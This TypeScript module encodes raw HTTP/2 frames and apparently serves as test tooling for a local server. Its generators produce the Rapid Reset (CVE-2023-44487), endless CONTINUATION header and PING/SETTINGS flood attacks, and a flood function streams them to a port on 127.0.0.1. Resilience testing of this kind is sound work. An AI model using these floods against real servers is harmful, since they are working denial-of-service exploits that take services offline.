/** HTTP/2 frames written by hand (RFC 9113 §4.1), for what no client library sends. */
import net from 'node:net'

const frameTypes = { data: 0, headers: 1, reset: 3, settings: 4, ping: 6, continuation: 9 } as const
export const flags = { endStream: 1, endHeaders: 4 } as const

export interface Frame {
  readonly type: number
  readonly flags?: number
  readonly stream?: number
  readonly payload?: Uint8Array
}

/** length(24) type(8) flags(8) stream(32) payload */
function encodeFrame({ type, flags: bits = 0, stream = 0, payload = new Uint8Array(0) }: Frame): Buffer {
  const frame = Buffer.alloc(9 + payload.length)
  frame.writeUIntBE(payload.length, 0, 3)
  frame[3] = type
  frame[4] = bits
  frame.writeUInt32BE(stream, 5)
  frame.set(payload, 9)
  return frame
}

/** The preface and an empty SETTINGS frame. */
export const preface = Buffer.concat([
  Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'),
  encodeFrame({ type: frameTypes.settings }),
])

/** A field without indexing and with a new name (RFC 7541 §6.2.2); both texts below 127 bytes. */
function headerField(name: string, value: string): Buffer {
  return Buffer.concat([
    Buffer.from([0, name.length]),
    Buffer.from(name),
    Buffer.from([value.length]),
    Buffer.from(value),
  ])
}

/** The head of a gRPC call. */
export function grpcHead(path: string): Buffer {
  const fields = { ':method': 'POST', ':scheme': 'http', ':path': path, ':authority': 'localhost', te: 'trailers' }
  return Buffer.concat([
    ...Object.entries(fields).map(([name, value]) => headerField(name, value)),
    headerField('content-type', 'application/grpc'),
  ])
}

/** Writes pieces as fast as they are taken until the peer closes or there are no more; resolves with the bytes sent. */
export function flood(port: number, pieces: Iterable<Uint8Array>, seconds: number): Promise<number> {
  return new Promise((resolve) => {
    const socket = net.connect(port, '127.0.0.1')
    const source = pieces[Symbol.iterator]()
    const timer = setTimeout(() => socket.destroy(), seconds * 1000)
    const write = (): void => {
      while (!socket.destroyed) {
        const next = source.next()
        if (next.done === true) return void socket.end()
        if (!socket.write(next.value)) return
      }
    }
    socket
      .on('connect', write)
      .on('drain', write)
      .on('error', () => socket.destroy())
      .resume()
    socket.on('close', () => {
      clearTimeout(timer)
      resolve(socket.bytesWritten)
    })
  })
}

/** Opens a stream and resets it, `count` times (CVE-2023-44487). */
export function* rapidResets(head: Uint8Array, count: number): Generator<Buffer> {
  yield preface
  for (let n = 0; n < count; n++) {
    const stream = n * 2 + 1
    yield Buffer.concat([
      encodeFrame({ type: frameTypes.headers, flags: flags.endHeaders, stream, payload: head }),
      encodeFrame({ type: frameTypes.reset, stream, payload: Buffer.from([0, 0, 0, 8]) }),
    ])
  }
}

/** A head that never ends (CVE-2024-27983 and its kin). */
export function* endlessHead(head: Uint8Array, count: number): Generator<Buffer> {
  yield preface
  yield encodeFrame({ type: frameTypes.headers, stream: 1, payload: head })
  const more = Buffer.concat(Array.from({ length: 100 }, (_, i) => headerField(`x-${i}`, 'y'.repeat(100))))
  const frame = encodeFrame({ type: frameTypes.continuation, stream: 1, payload: more })
  for (let n = 0; n < count; n++) yield frame
}

/** `count` frames that each ask for an answer. */
export function* answered(type: 'ping' | 'settings', count: number): Generator<Buffer> {
  yield preface
  const payload = type === 'ping' ? Buffer.alloc(8) : undefined
  const frame = encodeFrame({ type: frameTypes[type], ...(payload && { payload }) })
  const many = Buffer.concat(Array.from({ length: 100 }, () => frame))
  for (let n = 0; n < count; n += 100) yield many
}
